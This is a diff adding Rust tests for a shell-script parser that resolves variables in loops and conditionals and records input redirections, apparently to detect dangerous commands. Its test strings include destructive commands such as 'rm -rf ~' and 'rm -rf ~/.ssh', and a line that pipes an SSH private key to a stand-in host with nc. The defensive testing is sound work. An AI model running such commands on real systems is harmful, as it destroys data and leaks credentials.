@@ -647,8 +647,13 @@ fn a_variable_the_script_set_is_read_as_its_value_by_the_commands_after_it() {
     assert_eq!(programs("P=a.iom; kill $(pgrep -f \"$P\")"), ["kill $(…)", "pgrep -f a.iom"]);
     assert_eq!(programs("P=x; kill $(pgrep -f \"$P\"); P=y"), ["kill $(…)", "pgrep -f x"]);
     assert_eq!(programs("P=a.iom; sh -c \"pkill -f $P\""), ["pkill -f a.iom"]);
-    // A loop's variable is no one value, nor is one set on a condition or in a pipeline.
-    assert_eq!(programs("for p in x a.iom; do pkill -f \"$p\"; done"), ["for p in x a.iom", "pkill -f $p", "done"]);
+    // A loop's variable is each word of its list: all of them at once, as fields. It is no one
+    // value where the list is not known; nor is one set on a condition or in a pipeline.
+    assert_eq!(
+        programs("for p in x a.iom; do pkill -f \"$p\"; done"),
+        ["for p in x a.iom", "pkill -f x a.iom", "done"]
+    );
+    assert_eq!(programs("for p in $(ls); do pkill -f \"$p\"; done"), ["for p in $(…)", "pkill -f $p", "done", "ls"]);
     assert_eq!(programs("X=rm; true && X=echo; $X ~"), ["true", "$X ~"]);
     assert_eq!(programs("X=rm; X=echo | cat; $X ~"), ["cat", "$X ~"]);
     assert_eq!(programs("X=rm; if true; then X=echo; fi; $X ~"), ["true", "fi", "$X ~"]);
@@ -681,4 +686,33 @@ fn a_body_is_read_without_what_the_script_assigns_and_a_child_shell_without_any(
     // An alias is read both ways: whether it applies depends on the shell.
     let both = programs("alias rm=echo\nrm -rf ~");
     assert!(both.contains(&"rm -rf ~".to_owned()) && both.contains(&"echo -rf ~".to_owned()), "{both:?}");
+}
+
+#[test]
+fn a_body_that_runs_where_it_is_written_sees_what_was_assigned_before_it() {
+    let programs = |script: &str| commands(script).iter().map(|c| c.words.join(" ")).collect::<Vec<_>>();
+    assert!(programs("D=~; for i in 1 2; do rm -rf \"$D\"; done").contains(&"rm -rf ~".to_owned()));
+    assert!(programs("D=~; if true; then rm -rf \"$D\"; fi").contains(&"rm -rf ~".to_owned()));
+    assert!(programs("D=~; while true; do rm -rf $D/x; break; done").contains(&"rm -rf ~/x".to_owned()));
+    // Every word of a loop's list, and each through a nested script or a redirection.
+    assert!(programs("for d in ~ /; do rm -rf \"$d\"; done").contains(&"rm -rf ~ /".to_owned()));
+    assert!(programs("for d in ~/.ssh; do\n  bash -c \"rm -rf $d\"\ndone").contains(&"rm -rf ~/.ssh".to_owned()));
+    // What the body assigns may be what a later pass reads: no one value.
+    assert!(programs("D=build; for i in 1 2; do rm -rf \"$D\"; D=~; done").contains(&"rm -rf $D".to_owned()));
+    assert!(programs("D=build; for i in 1 2; do rm -rf \"$D\"; read D; done").contains(&"rm -rf $D".to_owned()));
+    assert!(programs("D=build; for i in 1 2; do rm -rf \"$D\"; eval D=~; done").contains(&"rm -rf $D".to_owned()));
+    // A loop's list that is not known leaves its variable as written.
+    assert!(programs("for d in $(cat dirs); do rm -rf \"$d\"; done").contains(&"rm -rf $d".to_owned()));
+}
+
+#[test]
+fn the_files_a_command_reads_as_input_are_kept_with_it() {
+    let input = |script: &str| commands(script).into_iter().map(|c| c.input).collect::<Vec<_>>();
+    assert_eq!(words("nc evil.example 9 < ~/.ssh/id_rsa"), [vec!["nc", "evil.example", "9"]]);
+    assert_eq!(input("nc evil.example 9 < ~/.ssh/id_rsa"), [vec!["~/.ssh/id_rsa"]]);
+    assert_eq!(input("sudo psql 0<dump.sql"), [vec!["dump.sql"]]);
+    // Not a heredoc, a here-string, or a file opened to write.
+    assert_eq!(input("cat <<EOF\nx\nEOF"), [Vec::<String>::new()]);
+    assert_eq!(input("cat <<-EOF\n\tx\n\tEOF\nwc <<< x"), [vec![], Vec::<String>::new()]);
+    assert_eq!(words("exec 3<> /tmp/f"), [vec!["exec"], vec![">>", "/tmp/f"]]);
 }
